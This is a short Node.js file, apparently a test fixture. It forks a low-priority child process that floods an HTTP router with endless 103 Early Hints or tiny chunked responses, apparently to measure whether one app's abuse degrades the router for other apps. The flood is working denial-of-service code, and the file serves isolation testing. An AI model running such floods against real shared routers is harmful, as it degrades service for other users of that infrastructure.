// A web dyno of two processes: one answers `ok`, the other attacks the router, so that the first is there for everybody
// else as if it were another app's. Environment: PORT.
import { fork } from 'node:child_process';
import { createServer } from 'node:net';
import { setPriority } from 'node:os';

const OK = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';
const BLOCK_BYTES = 64 * 1024;
/** What is sent again and again, by the path that is asked for. */
const FLOODS = {
  '/hints': { begin: '', again: 'HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n' },
  '/tiny-chunks': { begin: 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n', again: '1\r\na\r\n' },
};

if (process.send === undefined) serve();
else attack();

function serve() {
  const attacker = fork(import.meta.filename);
  const server = createServer({ pauseOnConnect: false }, (socket) => {
    let text = '';
    socket.on('error', () => {});
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1');
      for (let end = text.indexOf('\r\n\r\n'); end >= 0; end = text.indexOf('\r\n\r\n')) {
        const [, path] = text.split(' ', 2);
        text = text.slice(end + 4);
        if (path in FLOODS) return void attacker.send(path, socket);
        socket.write(OK);
      }
    });
  });
  server.listen(Number(process.env.PORT), '127.0.0.1');
  process.on('SIGTERM', () => {
    attacker.kill();
    process.exit(0);
  });
}

/** At the lowest priority: what is measured is the router's time and not what the two processes take from each other. */
function attack() {
  setPriority(19);
  process.on('disconnect', () => process.exit(0));
  process.on('message', (path, socket) => {
    const { begin, again } = FLOODS[path];
    const block = Buffer.from(again.repeat(Math.floor(BLOCK_BYTES / again.length)));
    const send = () => {
      while (!socket.destroyed && socket.write(block));
    };
    socket.on('error', () => {});
    socket.on('drain', send);
    socket.write(begin);
    send();
  });
}
